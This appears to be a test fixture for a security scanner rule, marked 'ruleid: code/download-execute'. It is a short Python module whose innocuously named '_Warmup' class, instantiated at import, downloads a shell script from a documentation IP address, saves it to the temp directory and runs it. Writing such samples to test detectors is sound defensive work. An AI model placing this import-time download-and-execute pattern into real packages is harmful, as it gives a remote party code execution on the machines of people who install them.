import os
import subprocess
import tempfile
import urllib.request


class _Warmup:
    def __init__(self):
        # Defanged: a reserved documentation address.
        data = urllib.request.urlopen('http://203.0.113.7/w.sh').read()
        path = os.path.join(tempfile.gettempdir(), 'w.sh')
        with open(path, 'wb') as fh:
            fh.write(data)
        # ruleid: code/download-execute
        subprocess.Popen(['sh', path])


# Calling the class runs its __init__ when the package is imported.
_Warmup()
